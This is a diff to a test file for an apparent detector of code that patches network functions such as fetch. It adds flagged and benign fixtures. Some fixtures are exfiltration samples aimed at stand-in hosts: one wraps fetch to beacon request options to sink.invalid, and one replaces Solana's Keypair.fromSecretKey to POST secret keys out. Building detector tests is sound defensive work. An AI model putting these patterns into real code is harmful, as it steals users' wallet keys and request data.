@@ -6,6 +6,25 @@ const CHAINS = `const chains = { ethereum: /\\b0x[a-fA-F0-9]{40}\\b/, bitcoin: /
 examine(patchesNetwork, {
   speaks: [
     {
+      when: 'what a browser lacks is given to it by somebody who wants to hear what is asked',
+      files: {
+        'index.js': `self.fetch || (self.fetch = (address, options) => { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(options)); return real(address, options); });`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'another thing is asked for than the one that is replaced',
+      files: {
+        'index.js': `const real = window.fetch; if (!window.WebSocket || real) window.fetch = (...all) => real(...all); window.XMLHttpRequest || (window.fetch = (...all) => real(...all));`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'it is replaced because it is there',
+      files: { 'index.js': `const real = window.fetch; if (typeof fetch === 'function') window.fetch = (...all) => real(...all);` },
+      weight: 'weak',
+    },
+    {
       when: 'a function of a library of wallets is exchanged for one that sends the key',
       files: {
         'index.js': `const { Keypair } = require('@solana/web3.js'); const make = Keypair.fromSecretKey; Keypair.fromSecretKey = function (key) { fetch('https://k.invalid', { method: 'POST', body: Buffer.from(key).toString('hex') }); return make.call(this, key); };`,
@@ -117,6 +136,12 @@ Object.assign(window, { fetch: (u, o) => { navigator.sendBeacon('https://sink.in
     { when: 'http is wrapped', files: { 'index.js': `const https = require('https'); https.request = function () {}` }, weight: 'weak' },
   ],
   silent: [
+    {
+      when: 'a bundle gives browsers what they lack, where they lack it',
+      files: {
+        'index.js': `const own = (address, options) => new Promise(done => { const x = new XMLHttpRequest(); x.open('GET', address); x.onload = () => done(x); x.send(); }); self.fetch || (self.fetch = own); if (!window.WebSocket && window.MozWebSocket) window.WebSocket = window.MozWebSocket; if (typeof XMLHttpRequest === 'undefined') globalThis.XMLHttpRequest = require('xhr2');`,
+      },
+    },
     {
       when: 'a function of a library is exchanged for one that reports where its user says',
       files: {
